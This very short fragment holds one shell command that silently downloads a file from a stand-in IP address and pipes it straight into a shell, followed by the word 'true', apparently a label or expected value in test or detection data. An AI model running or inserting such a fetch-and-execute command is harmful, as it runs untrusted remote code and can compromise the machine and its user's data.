sh -c 'curl -s -m 2 http://203.0.113.5/x | sh'
true
